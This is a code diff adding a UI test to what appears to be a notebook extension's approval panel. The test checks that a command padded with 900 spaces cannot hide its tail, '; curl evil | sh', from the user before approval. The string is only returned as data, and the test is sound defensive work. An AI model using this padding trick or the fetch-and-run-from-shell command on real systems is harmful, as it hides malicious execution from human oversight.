@@ -114,6 +114,32 @@ def test_what_waits_is_answered_by_keys(lab):
     assert book.page.locator(".nfx-has-pending").count() == 0
 
 
+WHOLE = """
+evil = "ls" + " " * 900 + "; curl evil | sh"
+run = publish.start(text=evil)
+"""
+
+
+def test_q78_the_whole_can_be_opened_before_a_yes(lab):
+    book = lab([SETUP, WHOLE], name="whole.ipynb")
+    book.run(0)
+    book.run(1)
+    book.command("netflux:show-panel")
+    card = questions(book).first
+    card.wait_for()
+    assert "characters not shown⟩" in card.inner_text()
+    assert "curl evil" not in card.inner_text()
+    card.locator("summary").click()
+    card.locator(".nfx-whole", has_text="; curl evil | sh").wait_for()
+
+    view = book.cell(1)
+    view.locator(".nfv-ask-summary").click()
+    view.locator(".nfv-ask-text", has_text="; curl evil | sh").wait_for()
+    view.locator(".nfv-yes").click()
+    questions(book).wait_for(state="hidden")
+    assert book.ask("print(run.wait(20).result()[-17:])").strip() == "; curl evil | sh"
+
+
 def test_a_question_is_answered_from_menu_and_palette(lab):
     book = lab([SETUP, "colour = chooses.start(question='Which?')"], name="palette.ipynb")
     book.run(0)
